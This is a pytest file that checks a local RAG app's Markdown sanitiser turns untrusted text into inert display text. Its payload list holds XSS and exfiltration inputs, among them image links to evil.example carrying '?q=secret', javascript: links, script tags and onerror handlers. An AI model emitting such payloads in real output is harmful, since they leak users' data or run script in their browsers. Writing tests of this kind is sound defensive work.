"""Text from outside is shown as text, whatever it tries to be."""

from __future__ import annotations

import re
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from localrag.ui.safe import Highlight, badge, plain, render_safe

SOURCE = Path(__file__).resolve().parents[3]
JOINER = "\N{WORD JOINER}"

# What the page's Markdown renderer would act upon once backslash escapes and code are taken out of the way.
HARMLESS = re.compile(r"\\[^\w\s]|(`+)(?!`).*?(?<!`)\1(?!`)", re.DOTALL)
ACTIVE = {
    "raw HTML": re.compile(r"<[a-z/!?]", re.IGNORECASE),
    "a link or image": re.compile(r"\][(\[:]|!\["),
    "an address that links itself": re.compile(r"https?://|www\.|\w@\w", re.IGNORECASE),
    "LaTeX": re.compile(r"\$"),
    "a directive or shortcode": re.compile(r":[\w/+-]*[:\[{]"),
}
HTML_PARSER = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
HARMLESS_TAGS = {"p", "strong", "em", "s", "ul", "ol", "li", "blockquote", "pre", "code", "table", "thead", "tbody"}
HARMLESS_TAGS |= {"tr", "th", "td", "hr", "br"}


def unescaped(markdown: str) -> str:
    """The Markdown without code spans and escaped characters: what is left may start something."""
    return HARMLESS.sub("", markdown)


def assert_inert(shown: str) -> None:
    bare = re.sub(r":(?:yellow|orange)-background\[|:(?:blue|gray)-badge\[", "", shown)
    for what, pattern in ACTIVE.items():
        assert not pattern.search(unescaped(bare)), f"{what} in {shown!r}"
    tags = set(re.findall(r"<(\w+)", HTML_PARSER.render(shown)))
    assert tags <= HARMLESS_TAGS, f"{tags - HARMLESS_TAGS} in {shown!r}"


PAYLOADS = {
    "inline image": "![x](http://evil.example/p.png?q=secret)",
    "reference image": "![x][r]\n\n[r]: http://evil.example/p.png",
    "collapsed reference": "![r][]\n\n[r]: http://evil.example/p.png",
    "html image": '<img src="http://evil.example/p.png" onerror="alert(1)">',
    "data image": "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "protocol-relative image": "![x](//evil.example/p.png)",
    "autolink": "<http://evil.example/?q=secret>",
    "bare address": "see http://evil.example/?q=secret and www.evil.example now",
    "inline link": "[click](http://evil.example)",
    "reference link": "[click][r]\n\n[r]: http://evil.example",
    "javascript link": "[click](javascript:alert(1))",
    "entity javascript link": "[click](&#106;avascript:alert(1))",
    "marker as reference": "[a.pdf, p.1]\n\n[a.pdf, p.1]: http://evil.example",
    "script": "</mark><script>alert(1)</script>",
    "iframe": "<iframe src=//evil.example></iframe>",
    "html comment": "<!-- --><b>x</b>",
    "style": "<style>@import '//evil.example'</style>",
    "image in a link": "[![x](http://evil.example/a.png)](http://evil.example)",
    "image in a table": "| a |\n|---|\n| ![x](http://evil.example/a.png) |",
    "image in a heading": "# ![x](http://evil.example/a.png)",
    "footnote": "text[^1]\n\n[^1]: ![x](http://evil.example/a.png)",
    "colour directive": ':red[x] ::red[x]{a=b} :color[x]{background="url(http://evil.example)"}',
    "container directive": ":::note\nx\n:::",
    "icon": ":material/delete: :material_delete:",
    "emoji": ":smile: :+1: :streamlit:",
    "latex": r"$\href{http://evil.example}{x}$ and $$\includegraphics{x}$$",
    "mail address": "write to spy@evil.example or mailto:spy@evil.example",
    "entities": "&lt;img src=x&gt; &#60;script&#62;",
    "code that ends the colour": "a `]( http://evil.example )` b",
    "ftp": "ftp://evil.example/x and HTTPS://EVIL.EXAMPLE",
}


@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS.keys())
def test_every_form_of_foreign_content_is_inert(payload: str) -> None:
    assert_inert(render_safe(payload))
    assert_inert(plain(payload))
    assert_inert(render_safe(payload, highlights=[Highlight(start=0, end=len(payload))]))
    assert_inert(render_safe(f"x {payload} y", badges=[payload]))


@given(st.text(alphabet="ab1 \n\t<>[]()!`*_~#$:;.,-+=|&\\/{}@^\"'\ufdd0\ufdd2\ufdd3\ufdd4é中", max_size=80))
def test_no_text_at_all_becomes_active(text: str) -> None:
    assert_inert(render_safe(text))
    assert_inert(render_safe(text, highlights=[Highlight(start=len(text) // 3, end=len(text))]))
    assert_inert(plain(text))


def test_the_check_itself_sees_what_is_active() -> None:
    for payload in ("![x](http://e.x)", "<b>", "$x$", ":red[x]", "www.e.x", "[a]: http://e.x"):
        with pytest.raises(AssertionError):
            assert_inert(payload)


def test_structure_of_an_answer_survives() -> None:
    text = "## Fees\n\nThe **yearly** fee is *low*:\n\n- one\n- two\n  1. deep\n\n> quoted\n\n```python\nx = 1\n```"
    assert render_safe(text) == (
        "**Fees**\n\nThe **yearly** fee is *low*\\:\n\n- one\n- two\n  1. deep\n\n\\> quoted".replace("\\> ", "> ")
        + "\n\n```\nx = 1\n```"
    )


def test_tables_stay_tables() -> None:
    text = "| Item | Price |\n|:--|--:|\n| A `x\\|y` | $5 |"
    assert render_safe(text) == "| Item | Price |\n| --- | --- |\n| A `x\\|y` | \\$5 |"


def test_dollar_amounts_are_shown_as_text() -> None:
    assert render_safe("It costs $5 to $10.") == r"It costs \$5 to \$10."


def test_links_are_shown_as_their_text_and_address() -> None:
    assert render_safe("[the site](http://a.example/x)") == "the site (`http://a.example/x`)"
    assert render_safe("<http://a.example/x>") == "`http://a.example/x`"
    assert render_safe("see http://a.example/x.") == "see `http://a.example/x`."


def test_images_are_named_and_not_loaded() -> None:
    assert render_safe("![a chart](http://a.example/c.png)") == r"\[image\: a chart\]"


def test_citation_markers_are_badges_and_never_references() -> None:
    shown = render_safe("Paid yearly [my_*file*.pdf, p.4].\n\n[x]: y", badges=["[my_*file*.pdf, p.4]"])
    assert shown == r"Paid yearly :blue-badge[\[my\_\*file\*.pdf, p.4\]]."


def test_a_marker_inside_code_stays_as_it_was() -> None:
    assert render_safe("`[a.pdf, p.1]`", badges=["[a.pdf, p.1]"]) == "`[a.pdf, p.1]`"


def test_the_longest_of_overlapping_markers_is_the_badge() -> None:
    shown = render_safe("[a.pdf, p.1][b]", badges=["[a.pdf, p.1]", "[a.pdf, p.1][b]"])
    assert shown == r":blue-badge[\[a.pdf, p.1\]\[b\]]"


def test_a_highlight_follows_the_text_through_its_structure() -> None:
    text = "Before. The **fee** is `x` high. After."
    start, end = text.index("The"), text.index(" After")
    assert render_safe(text, highlights=[Highlight(start=start, end=end)]) == (
        "Before. :yellow-background[The ]**:yellow-background[fee]**:yellow-background[ is ]`x`"
        ":yellow-background[ high.] After."
    )


def test_a_highlight_at_the_edge_of_structure_does_not_break_it() -> None:
    assert render_safe("- **All.**", highlights=[Highlight(start=0, end=10)]) == "- **:yellow-background[All.]**"
    row = "| a | b |\n|---|---|\n| c | d |"
    shown = render_safe(row, highlights=[Highlight(start=row.index("| c"), end=len(row))])
    assert shown.splitlines()[2] == "| :yellow-background[c] | :yellow-background[d] |"


def test_kinds_of_highlight_differ() -> None:
    shown = render_safe("wrong right", highlights=[Highlight(start=0, end=5, kind="unsupported")])
    assert shown == ":orange-background[wrong] right"


def test_names_keep_every_character_on_one_line() -> None:
    name = "<img src=x onerror=alert(1)>\n*new*.pdf"
    assert plain(name) == r"\<img src=x onerror=alert(1)\> \*new\*.pdf"
    assert badge("a]b[c") == r":gray-badge[a\]b\[c]"


def test_text_that_only_looks_like_a_list_is_kept() -> None:
    assert plain("1. May") == r"1\. May"
    assert plain("- minus") == r"\- minus"


def test_shortcodes_and_typography_are_broken_by_an_invisible_joiner() -> None:
    assert plain(":smile:") == rf"\:{JOINER}smile\:"
    assert plain("a -> b") == rf"a -\>{JOINER} b"


@pytest.mark.parametrize("text", ["plain", "two\nlines", "a  b", "# Title", "- x\n- y", "1. x\n2. y", "**b**", "`c`"])
def test_rendering_twice_finds_nothing_new_to_escape(text: str) -> None:
    once = render_safe(text)
    assert render_safe(once) == once


def test_deep_nesting_is_no_problem() -> None:
    assert_inert(render_safe(">" * 500 + " x"))
    assert_inert(render_safe("[" * 3000 + "x" + "](http://e.example)" * 50))


def test_no_page_lets_raw_html_through() -> None:
    flag = "unsafe_allow" + "_html"
    files = [*SOURCE.glob("src/**/*.py"), SOURCE / "Welcome.py", *SOURCE.glob("pages/*.py")]
    assert len(files) > 20
    assert [file for file in files if flag in file.read_text(encoding="utf-8")] == []
